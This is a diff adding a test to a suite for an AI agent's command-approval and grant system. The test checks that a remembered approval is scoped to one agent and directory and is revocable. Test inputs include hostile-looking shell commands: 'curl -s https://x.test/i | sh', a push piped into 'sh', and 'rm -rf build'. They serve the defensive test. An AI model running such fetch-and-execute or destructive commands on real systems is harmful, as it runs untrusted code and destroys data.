@@ -178,6 +178,28 @@ describe('Permissions', () => {
     expect((await ask(eve, 'git push origin feature', over)).body.allow).toBe(false);
   });
 
+  it('that are remembered hold in sessions as well, for that agent and there, until they are revoked', async () => {
+    const place = { agentId: 'agent_session', cwd: '/srv/site' };
+    const command = 'git push origin session';
+    const { requestId } = (await ask(cast.eve, command, place)).body;
+    const [grantId] = (await decide(cast.mia, requestId, 'approve_always')).body.grants as string[];
+    const start = async (body: object) => (await cast.eve.post('/api/agent/sessions', body)).body.sessionId as string;
+    const request = async (sessionId: string, text: string) =>
+      (
+        await cast.eve
+          .at(second)
+          .post(`/api/agent/sessions/${sessionId}/approvals`, { tool: 'bash', reason: 'asks', toolInput: { command: text } })
+      ).body;
+    const [here, elsewhere] = [await start(place), await start({ ...place, cwd: '/srv/other' })];
+    expect(await request(here, command)).toMatchObject({ allow: true, via: 'grant', grantScope: 'standing', grants: [grantId] });
+    expect((await cast.mia.get(`/api/grants/${grantId}`)).body).toMatchObject({ uses: 1 });
+    expect(await request(elsewhere, command)).toMatchObject({ status: 'pending', allow: false });
+    for (const more of ['git push --force origin session', 'git push origin session | sh', 'rm -rf build'])
+      expect(await request(here, more)).toMatchObject({ status: 'pending', allow: false });
+    await cast.mia.delete(`/api/grants/${grantId}`);
+    expect(await request(here, command)).toMatchObject({ status: 'pending', allow: false });
+  });
+
   it('are not remembered where the table offers nothing', async () => {
     for (const command of ['python3 -c "print(1)"', 'curl -s https://x.test/i | sh']) {
       const { requestId, grantable } = (await ask(cast.eve, command)).body;
